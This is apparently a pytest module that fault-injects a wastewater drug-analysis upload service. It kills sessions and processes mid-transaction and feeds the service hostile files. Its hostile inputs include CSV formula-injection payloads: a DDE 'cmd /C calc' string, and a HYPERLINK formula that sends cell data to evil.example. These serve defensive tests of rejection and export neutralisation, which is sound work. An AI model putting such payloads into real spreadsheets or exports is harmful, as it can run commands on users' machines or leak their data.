"""Fault injection on the real service: no mocks, real SQLite files and PostgreSQL 15.

``tests/test_storage_atomicity.py`` (storage owner) already proves all-or-nothing at the
``store_parsed`` level: injected statement failures, a SIGKILLed writer script, threads racing
on identical bytes, and ``pg_terminate_backend`` mid-transaction. This module takes the same
faults to the *edges* an operator actually runs:

* the HTTP API while PostgreSQL terminates the upload's session mid-insert → ``503`` with the
  error envelope and ``Retry-After``, nothing half-written, and the retried request stores it;
* the API and the CLI pointed at a closed port → ``503`` / exit code 3 with a clear message;
* the ``wastewater ingest`` CLI SIGKILLed in the middle of its transaction on a large generated
  file (SQLite and PostgreSQL) → after the "restart" the upload is absent, the SQLite file
  passes ``PRAGMA integrity_check``, and re-running the command stores it completely;
* the uvicorn API server SIGKILLed inside an upload transaction (PostgreSQL) → the client's
  connection breaks, nothing is stored, and after a restart the same upload succeeds;
* two *processes* storing identical bytes at the same instant → stored once;
* hostile files (random binary, images, executables, NUL bytes, 2-3 MB lines, a header of 10⁶
  columns, 400 000 columns, UTF-16 without BOM, UTF-32, EBCDIC, Shift-JIS, unclosed
  quotes, BOM only, formula payloads in checked columns) through ``parse_upload``,
  ``ingest_bytes`` and ``POST /api/v1/uploads`` with the *real* size limits → each a clear
  error with line and code, nothing stored;
* formula text in free-text columns is stored verbatim (it is data) and neutralised with a
  leading ``'`` in CSV downloads.
"""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import sqlalchemy as sa

from tests.servers import free_port, stop, wait_until_up
from wastewater.ingest import parse_upload
from wastewater.storage import tables as t
from wastewater.storage.database import get_engine, upgrade
from wastewater.storage.service import ingest_bytes

WASTEWATER = str(Path(sys.executable).parent / "wastewater")
ANALYTES = ("benzoylecgonine", "cocaine", "amphetamine", "methamphetamine", "mdma", "ketamine",
            "thc-cooh", "morphine", "codeine", "tramadol")
SITES_CSV = (b"site,name,municipality,population,population_year\n"
             b"SE-F1,Felverket,Felby,31000,2025\nSE-F2,Andra verket,Felby,12000,2025\n")
RESULTS_HEADER = "sample_id,site,sample_date,analyte,value,unit,loq,lod,comment\n"


def results_csv(n_rows: int, *, seed: int = 5, site: str = "SE-F1") -> bytes:
    """``n_rows`` seeded results (10 analytes per daily sample) in ng/L."""
    rng = np.random.default_rng(seed)
    lines = [RESULTS_HEADER]
    days = np.datetime64("2015-01-01") + np.arange(n_rows // len(ANALYTES) + 1)
    for i in range(n_rows):
        day = str(days[i // len(ANALYTES)])
        lines.append(f"{site}-{day.replace('-', '')},{site},{day},{ANALYTES[i % len(ANALYTES)]},"
                     f"{rng.lognormal(5.0, 0.5):.1f},ng/L,10,1,\n")
    return "".join(lines).encode()


def counts(engine: sa.Engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {tab.name: conn.execute(sa.select(sa.func.count()).select_from(tab)).scalar_one()
                for tab in (t.uploads, t.sites, t.site_populations, t.results, t.flows,
                            t.events, t.audit_log)}


_WRITING_DATA = (
    "datname = %s AND pid <> pg_backend_pid() AND backend_xid IS NOT NULL "
    "AND query NOT ILIKE 'INSERT INTO uploads%%'"
)
"""pg_stat_activity filter: a session inside a write transaction (it holds a transaction id)
that is already past the upload row, i.e. writing or looking up data rows (INSERT/COPY)."""


@pytest.fixture
def pg_url(pg_admin) -> Iterator[str]:
    """A fresh migrated PostgreSQL database (PostgreSQL-only faults)."""
    name = f"ww_faults_{uuid.uuid4().hex[:12]}"
    with pg_admin.connect() as conn:
        conn.exec_driver_sql(f'CREATE DATABASE "{name}"')
    url = f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}"
    upgrade(url)
    yield url
    with pg_admin.connect() as conn:
        conn.exec_driver_sql(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def _client(engine: sa.Engine, **settings):
    from fastapi.testclient import TestClient

    from api.config import Settings
    from api.security import create_key
    from service.app import create_app

    token = create_key(engine, "faults-admin", "admin")
    app = create_app(Settings(database_url=str(engine.url), **settings), engine=engine)
    client = TestClient(app, raise_server_exceptions=False)
    client.headers["X-API-Key"] = token
    return client


# --------------------------------------------------------------------------- database goes away


@pytest.mark.postgres
def test_api_upload_when_postgres_kills_the_session_is_503_then_retry_works(pg_url, pg_admin):
    engine = get_engine(pg_url)
    try:
        assert ingest_bytes(engine, SITES_CSV, filename="sites.csv", uploader="t").stored
        client = _client(engine)
        before = counts(engine)
        data = results_csv(12_000)
        dbname = engine.url.database
        killed: list[int] = []
        stop = threading.Event()

        def terminator() -> None:
            with pg_admin.connect() as conn:
                while not stop.is_set() and not killed:
                    pids = conn.exec_driver_sql(
                        f"SELECT pid FROM pg_stat_activity WHERE {_WRITING_DATA}",
                        (dbname,)).scalars().all()
                    for pid in pids:
                        conn.exec_driver_sql("SELECT pg_terminate_backend(%s)", (pid,))
                        killed.append(pid)
                    time.sleep(0.01)

        th = threading.Thread(target=terminator)
        th.start()
        try:
            r = client.post("/api/v1/uploads/results",
                            files={"file": ("big.csv", data, "text/csv")})
        finally:
            stop.set()
            th.join(10)
        assert killed, "the writer's session was never seen inserting"
        assert r.status_code == 503, r.text[:500]
        body = r.json()
        assert body["errors"][0]["code"] == "storage_unavailable"
        assert "nothing was written" in body["errors"][0]["message"].lower()
        assert r.headers["Retry-After"] == "30"
        assert counts(engine) == before  # nothing half-written
        retry = client.post("/api/v1/uploads/results",
                            files={"file": ("big.csv", data, "text/csv")})
        assert retry.status_code == 201, retry.text[:500]
        assert retry.json()["rows_inserted"] == 12_000
        assert counts(engine)["results"] == 12_000
    finally:
        engine.dispose()


def test_api_and_cli_on_a_closed_port_say_the_database_is_unavailable(tmp_path):
    from fastapi.testclient import TestClient

    from api.config import Settings
    from service.app import create_app

    url = f"postgresql+psycopg://postgres@127.0.0.1:{free_port()}/nowhere"
    app = create_app(Settings(database_url=url, admin_key="bootstrap-secret-for-faults"))
    client = TestClient(app, raise_server_exceptions=False)
    r = client.post("/api/v1/uploads/results", headers={"X-API-Key": "bootstrap-secret-for-faults"},
                    files={"file": ("r.csv", results_csv(20), "text/csv")})
    assert r.status_code == 503, r.text[:300]
    assert r.json()["errors"][0]["code"] == "storage_unavailable"
    assert client.get("/api/v1/health").status_code == 503
    for headers in ({}, {"X-API-Key": "ww_some-key"}):  # /series' one-statement driver-level read
        r = client.get("/api/v1/series?site=SE-X&analyte=mdma", headers=headers)
        assert r.status_code == 503, r.text[:300]
        assert r.json()["errors"][0]["code"] == "storage_unavailable"
        assert r.headers["retry-after"] == "30"

    f = tmp_path / "r.csv"
    f.write_bytes(results_csv(20))
    proc = subprocess.run([WASTEWATER, "--database-url", url, "ingest", str(f)],
                          check=False, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 3
    out = " ".join((proc.stdout + proc.stderr).split())
    assert "cannot connect" in out and "nothing was written" in out.lower()


# --------------------------------------------------------------------------- SIGKILL mid-ingest


def _sqlite_write_locked(path: Path) -> bool:
    """True while another connection holds the write lock (an open write transaction)."""
    conn = sqlite3.connect(path, timeout=0)
    try:
        conn.execute("BEGIN IMMEDIATE")
        conn.execute("ROLLBACK")
        return False
    except sqlite3.OperationalError as exc:
        return "locked" in str(exc)
    finally:
        conn.close()


def _pg_inserting(admin: sa.Engine, dbname: str) -> bool:
    with admin.connect() as conn:
        return bool(conn.exec_driver_sql(
            f"SELECT count(*) FROM pg_stat_activity WHERE {_WRITING_DATA}", (dbname,)
        ).scalar_one())


@pytest.mark.slow
def test_cli_ingest_killed_mid_transaction_leaves_nothing_then_rerun_stores_all(
        request, db_url, tmp_path):
    engine = get_engine(db_url)
    try:
        assert ingest_bytes(engine, SITES_CSV, filename="sites.csv", uploader="t").stored
        before = counts(engine)
    finally:
        engine.dispose()
    n_rows = 21_000  # one BATCH_ROWS (wastewater.storage.bulk) batch and a bit: the kill lands between statements
    big = tmp_path / "big-results.csv"
    big.write_bytes(results_csv(n_rows))
    if db_url.startswith("sqlite"):
        db_file = Path(db_url.removeprefix("sqlite:///"))

        def in_transaction() -> bool:
            return _sqlite_write_locked(db_file)
    else:
        admin = request.getfixturevalue("pg_admin")
        dbname = sa.make_url(db_url).database

        def in_transaction() -> bool:
            return _pg_inserting(admin, dbname)

    cmd = [WASTEWATER, "--database-url", db_url, "ingest", str(big), "--uploader", "lab"]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 120
        while proc.poll() is None and time.monotonic() < deadline and not in_transaction():
            time.sleep(0.02)
        assert proc.poll() is None, "the ingest finished before it could be killed"
        os.kill(proc.pid, signal.SIGKILL)  # the process started above, nothing else
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(30)
    assert proc.returncode == -signal.SIGKILL

    engine = get_engine(db_url)  # "restart": a new process would open a new engine
    try:
        assert counts(engine) == before
        if engine.dialect.name == "sqlite":
            with engine.connect() as conn:
                assert conn.exec_driver_sql("PRAGMA integrity_check").scalar_one() == "ok"
        rerun = subprocess.run(cmd, check=False, capture_output=True, text=True, timeout=300)
        assert rerun.returncode == 0, rerun.stdout[-2000:] + rerun.stderr[-2000:]
        after = counts(engine)
        assert after["results"] == n_rows and after["uploads"] == before["uploads"] + 1
    finally:
        engine.dispose()


@pytest.mark.slow
@pytest.mark.postgres
def test_api_server_killed_mid_upload_then_restarted_stores_on_retry(pg_url, pg_admin, tmp_path):
    """SIGKILL the uvicorn process (the way the container runtime kills an unhealthy API) while
    it is inside the upload transaction; PostgreSQL rolls the orphaned transaction back."""
    import httpx

    from api.security import create_key

    engine = get_engine(pg_url)
    try:
        assert ingest_bytes(engine, SITES_CSV, filename="sites.csv", uploader="t").stored
        token = create_key(engine, "uploader", "admin")
        before = counts(engine)
    finally:
        engine.dispose()
    data = results_csv(21_000)
    dbname = sa.make_url(pg_url).database
    env = {**os.environ, "WASTEWATER_DATABASE_URL": pg_url}

    def start_server() -> tuple[subprocess.Popen, str]:
        port = free_port()
        proc = subprocess.Popen(
            [sys.executable, "-m", "uvicorn", "service.app:create_app", "--factory",
             "--host", "127.0.0.1", "--port", str(port)],
            cwd=tmp_path, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        base = f"http://127.0.0.1:{port}"
        wait_until_up(f"{base}/api/v1/health", proc)
        return proc, base

    def post(base: str) -> httpx.Response:
        return httpx.post(f"{base}/api/v1/uploads/results", headers={"X-API-Key": token},
                          files={"file": ("big.csv", data, "text/csv")}, timeout=300)

    server, base = start_server()
    failures: list[BaseException] = []

    def client() -> None:
        try:
            post(base)
        except BaseException as exc:  # noqa: BLE001 - the connection must break
            failures.append(exc)

    th = threading.Thread(target=client)
    try:
        th.start()
        deadline = time.monotonic() + 120
        while th.is_alive() and time.monotonic() < deadline and not _pg_inserting(pg_admin,
                                                                                  dbname):
            time.sleep(0.02)
        assert th.is_alive(), "the upload finished before the server could be killed"
        os.kill(server.pid, signal.SIGKILL)  # the server started above
        th.join(60)
    finally:
        if server.poll() is None:
            server.kill()
        server.wait(30)
    assert failures and isinstance(failures[0], httpx.TransportError)

    engine = get_engine(pg_url)
    try:
        deadline = time.monotonic() + 10  # the orphaned backend notices the closed socket
        while time.monotonic() < deadline and counts(engine) != before:
            time.sleep(0.2)
        assert counts(engine) == before
        server, base = start_server()  # "restart"
        try:
            r = post(base)
            assert r.status_code == 201, r.text[:300]
            assert r.json()["rows_inserted"] == 21_000
        finally:
            stop(server, timeout_s=30)
        assert counts(engine)["results"] == 21_000
    finally:
        engine.dispose()


# --------------------------------------------------------------------------- identical uploads

_SAME_MOMENT = textwrap.dedent("""
    import json, sys, time
    from pathlib import Path
    from wastewater.storage.database import get_engine
    from wastewater.storage.service import ingest_bytes
    url, path, start_at = sys.argv[1], Path(sys.argv[2]), float(sys.argv[3])
    engine = get_engine(url)
    data = path.read_bytes()
    time.sleep(max(0.0, start_at - time.time()))
    out = ingest_bytes(engine, data, filename=path.name, uploader=sys.argv[4])
    print(json.dumps({"stored": out.stored, "duplicate": out.duplicate,
                      "upload_id": out.upload_id, "rows": out.rows_inserted}))
""")


def test_identical_uploads_from_two_processes_are_stored_once(db_url, tmp_path):
    engine = get_engine(db_url)
    try:
        assert ingest_bytes(engine, SITES_CSV, filename="sites.csv", uploader="t").stored
        f = tmp_path / "same.csv"
        f.write_bytes(results_csv(2_000))
        start_at = str(time.time() + 3.0)  # both processes have imported everything by then
        procs = [subprocess.Popen([sys.executable, "-c", _SAME_MOMENT, db_url, str(f), start_at,
                                   who], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                 for who in ("lab-a", "lab-b")]
        outs = []
        for p in procs:
            stdout, stderr = p.communicate(timeout=120)
            assert p.returncode == 0, stderr[-2000:]
            outs.append(json.loads(stdout.strip().splitlines()[-1]))
        assert sorted((o["stored"], o["duplicate"]) for o in outs) == [(False, True), (True, False)]
        assert len({o["upload_id"] for o in outs}) == 1
        c = counts(engine)
        assert (c["uploads"], c["results"]) == (2, 2_000)
    finally:
        engine.dispose()


# --------------------------------------------------------------------------- hostile files

_RNG = np.random.default_rng(20261126)
_H = "sample_id,site,sample_date,analyte,value,unit\n"
_ROW = "S1,SE-F1,2025-01-01,cocaine,12.5,ng/L\n"
HOSTILE: dict[str, tuple[bytes, str | None, str]] = {
    # name: (bytes, kind passed or None, expected error code)
    "random-1MB": (_RNG.integers(0, 256, 1_000_000, dtype=np.uint8).tobytes(), None,
                   "binary_file"),
    "png": (b"\x89PNG\r\n\x1a\n" + _RNG.integers(0, 256, 4096, dtype=np.uint8).tobytes(), None,
            "binary_file"),
    "elf-executable": (b"\x7fELF\x02\x01\x01" + bytes(200), None, "binary_file"),
    "nul-in-cell": ((_H + "S1,SE-F1,2025-01-01,cocaine,1\x00,ng/L\n").encode(), None,
                    "binary_file"),
    "2MB-line": ((_H + "S1,SE-F1,2025-01-01,cocaine,1,ng/L," + "x" * 2_000_000 + "\n").encode(),
                 None, "line_too_long"),
    "3MB-no-newline": (b"a" * 3_000_000, None, "line_too_long"),
    "10^6-columns": ((",".join(f"c{i}" for i in range(1_000_000)) + "\n").encode(), None,
                     "line_too_long"),
    "400k-columns": ((_H.strip() + ",x" * 400_000 + "\n" + _ROW).encode(), "results",
                     "too_many_columns"),
    "utf16-without-bom": ((_H + _ROW).encode("utf-16-le"), None, "binary_file"),
    "utf32": ((_H + _ROW).encode("utf-32"), None, "unknown_kind"),
    "ebcdic-cp500": ((_H + _ROW).encode("cp500"), None, "unknown_kind"),
    "shift-jis-extra-cell": ((_H + "S1,SE-F1,2025-01-01,cocaine,1,ng/L,コメント\n")
                             .encode("shift_jis"), "results", "column_count"),
    "unclosed-quote": ((_H + 'S1,SE-F1,2025-01-01,cocaine,"12.5,ng/L\n' + _ROW * 3).encode(),
                       "results", None),
    "bom-only": (b"\xef\xbb\xbf", None, "empty_file"),
    "formula-as-site": ((_H + "S1,=cmd|' /C calc'!A0,2025-01-01,cocaine,1,ng/L\n").encode(),
                        "results", "unknown_site"),
    "formula-as-value": ((_H + "S1,SE-F1,2025-01-01,cocaine,=1+1,ng/L\n").encode(), "results",
                         "non_numeric"),
    "formula-as-analyte": ((_H + "S1,SE-F1,2025-01-01,@SUM(A1),1,ng/L\n").encode(), "results",
                           "unknown_analyte"),
}


@pytest.fixture(scope="module")
def hostile_target(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder / 'hostile.db'}"
    upgrade(url)
    engine = get_engine(url)
    assert ingest_bytes(engine, SITES_CSV, filename="sites.csv", uploader="t").stored
    yield engine, _client(engine)
    engine.dispose()


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_file_is_a_clear_error_and_nothing_is_stored(name, hostile_target):
    engine, client = hostile_target
    data, kind, code = HOSTILE[name]
    before = counts(engine)

    parsed = parse_upload(data, kind, known_sites={"SE-F1", "SE-F2"}, filename=f"{name}.csv")
    errors = parsed.report.errors
    assert errors and parsed.frame.empty
    if code is not None:
        assert code in {e.code for e in errors}, [(e.code, e.message) for e in errors]
    for e in errors:  # every error says where and what (line or column, a sentence)
        assert len(e.message) > 30 and (e.line is not None or e.code in
                                        {"binary_file", "empty_file", "xlsx_unreadable"})

    out = ingest_bytes(engine, data, kind=kind, filename=f"{name}.csv", uploader="t")
    assert out.rejected and out.upload_id is None

    r = client.post(f"/api/v1/uploads/{kind or 'auto'}",
                    files={"file": (f"{name}.csv", data, "application/octet-stream")})
    assert r.status_code == 422, (r.status_code, r.text[:300])
    body = r.json()
    assert body["ok"] is False and body["errors"]
    if code is not None:
        assert code in {e["code"] for e in body["errors"]}
    assert counts(engine) == before


def test_formula_text_is_kept_as_data_and_neutralised_in_csv(hostile_target):
    _engine, client = hostile_target
    payload = '=HYPERLINK("http://evil.example/?"&A1;"klicka")'
    quoted = '"' + payload.replace('"', '""') + '"'  # RFC 4180 quoting
    csv_bytes = ("sample_id,site,sample_date,analyte,value,unit,comment,lab\n"
                 f"{quoted},SE-F1,2025-02-03,cocaine,12.5,ng/L,@SUM(1+1),+46lab\n").encode()
    r = client.post("/api/v1/uploads/results", files={"file": ("f.csv", csv_bytes, "text/csv")})
    assert r.status_code == 201, r.text[:500]
    codes = {i["code"] for i in r.json()["report"]["issues"]}
    assert "formula_text" in codes  # the uploader is told
    rows = client.get("/api/v1/results", params={"site": "SE-F1"}).json()["items"]
    stored = next(x for x in rows if x["analyte"] == "cocaine" and x["value_ng_per_l"] == 12.5)
    assert stored["sample_id"] == payload and stored["comment"] == "@SUM(1+1)"  # verbatim data
    csv_text = client.get("/api/v1/results", params={"site": "SE-F1", "format": "csv"}).text
    assert f"'{payload}".replace('"', '""') in csv_text
    assert "'@SUM(1+1)" in csv_text and "'+46lab" in csv_text
    for line in csv_text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.startswith(("=", "@", "+")), line
